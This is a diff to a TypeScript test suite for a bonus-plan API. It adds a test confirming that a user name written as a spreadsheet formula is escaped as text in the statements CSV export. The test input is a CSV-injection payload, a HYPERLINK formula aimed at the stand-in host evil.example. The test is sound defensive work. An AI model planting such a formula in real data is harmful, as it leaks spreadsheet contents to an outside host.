@@ -25,7 +25,7 @@ describeEachDialect('the joint bonus', (getDatabase) => {
     emma = await addUser(context, 'sales_rep', { name: 'Emma' });
     return () => app.close();
   });
-  const call = async (method: 'GET' | 'PUT', url: string, email = director, payload?: object) =>
+  const call = async (method: 'GET' | 'PUT' | 'PATCH', url: string, email = director, payload?: object) =>
     app.inject({
       method,
       url: `/api/v1${url}`,
@@ -139,6 +139,19 @@ describeEachDialect('the joint bonus', (getDatabase) => {
     });
     const totals = rows.filter((r) => r.line === 'total').map((r) => Number(r.payout_EUR_minor));
     expect(totals.reduce((a, b) => a + b, 0)).toBe((await statements(id)).total);
+  });
+
+  it('writes a name that looks like a formula into the CSV as text, never as a live formula', async () => {
+    // A rep names themselves with a formula; the director opens the statements in a spreadsheet.
+    const name = '=HYPERLINK("http://evil.example/?"&A1,"Bonus")';
+    const rep = await call('PATCH', '/me', emma.email, { name });
+    expect(rep.statusCode).toBe(200);
+    const id = (await call('PUT', '/bonus-plans', director, plan())).json<BonusPlan>().id;
+    const csv = (await call('GET', `/bonus-plans/${id}/statements.csv`)).body;
+    const rows = parse<Record<string, string>>(csv, { columns: true });
+    expect(rows.map((r) => r.person)).toContain(`'${name}`);
+    expect(rows.some((r) => Object.values(r).some((cell) => /^[=+\-@\t\r]/.test(cell)))).toBe(false);
+    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
   });
 
   it('refuses a plan with a person twice or a manual component without its actual', async () => {
